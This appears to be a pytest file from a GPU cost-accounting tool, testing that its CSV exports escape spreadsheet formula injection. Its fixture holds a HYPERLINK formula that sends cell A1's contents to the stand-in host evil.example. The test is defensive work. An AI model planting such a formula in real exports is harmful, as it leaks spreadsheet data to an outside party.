"""Formula injection (issue #28, the probe): names that reach a CSV file a spreadsheet opens
(invoice-lines.csv, a cost centre's CSV, `gpuledger sql --csv`, the FOCUS file) start with an
apostrophe when they start with = + - @ or a control character; numbers are written as numbers."""

import csv
from datetime import date
from pathlib import Path

import duckdb

from gpuledger.export.focus import TIME_COLUMNS, write_rows
from gpuledger.ingest.service import run_sql
from gpuledger.report.weekly import write_weekly_report
from models.focus import ALL_COLUMNS, ROWS_TABLE
from models.runner import ensure_schema, publish_snapshot, read_snapshot
from tests.reports.conftest import insert_lines

INJECTED = '=HYPERLINK("https://evil.example/?"&A1,"Open invoice")'
LINES = [("week", "2026-W02", date(2026, 1, 5), "CC A", "@team", INJECTED, "slurm", "a100",
          "2.75", "EUR", 7200, "5.50", "2.0", "1.5")]


def test_the_weekly_reports_csv_files_hold_no_formula(tmp_path: Path):
    db = tmp_path / "l.duckdb"
    with duckdb.connect(str(db)) as con:
        ensure_schema(con)
        con.execute("DROP TABLE IF EXISTS incidents")
        insert_lines(con, LINES)
        publish_snapshot(con, db)
    with read_snapshot(db) as con:
        write_weekly_report(con, "2026-W02", tmp_path)
    files = sorted((tmp_path / "2026-W02").glob("invoice-lines*.csv"))
    assert len(files) == 2  # the week's and the cost centre's
    for path in files:
        with path.open(newline="", encoding="utf-8") as fh:
            [row] = list(csv.DictReader(fh))
        assert row["person"] == "'" + INJECTED
        assert row["team"] == "'@team"
        assert row["amount"] == "5.50"
    # gpuledger sql's CSV
    out = list(csv.reader(run_sql(db, "SELECT person, amount, -2 AS n FROM chargeback "
                                      "WHERE person LIKE '=%'").splitlines()))
    assert out[1] == ["'" + INJECTED, "5.50", "-2"]


def test_the_focus_csv_holds_no_formula_and_parquet_keeps_the_value(tmp_path: Path):
    con = duckdb.connect()
    columns = []
    for c in ALL_COLUMNS:
        if c in TIME_COLUMNS:
            columns.append(f"TIMESTAMPTZ '2026-01-05 00:00:00+00' AS \"{c}\"")
        elif c == "BilledCost":
            columns.append(f"CAST(-1.5 AS DECIMAL(18, 6)) AS \"{c}\"")
        else:
            columns.append(f"? AS \"{c}\"")
    texts = [c for c in ALL_COLUMNS if c not in TIME_COLUMNS and c != "BilledCost"]
    con.execute(f"CREATE TEMP TABLE {ROWS_TABLE} AS SELECT {', '.join(columns)}",
                [INJECTED] * len(texts))
    with write_rows(con, tmp_path / "f.csv", "csv").open(newline="", encoding="utf-8") as fh:
        [row] = list(csv.DictReader(fh))
    assert {row[c] for c in texts} == {"'" + INJECTED}
    assert float(row["BilledCost"]) == -1.5
    parquet = write_rows(con, tmp_path / "f.parquet", "parquet")
    kept = duckdb.sql(f"SELECT \"{texts[0]}\" FROM read_parquet('{parquet}')").fetchone()[0]
    assert kept == INJECTED
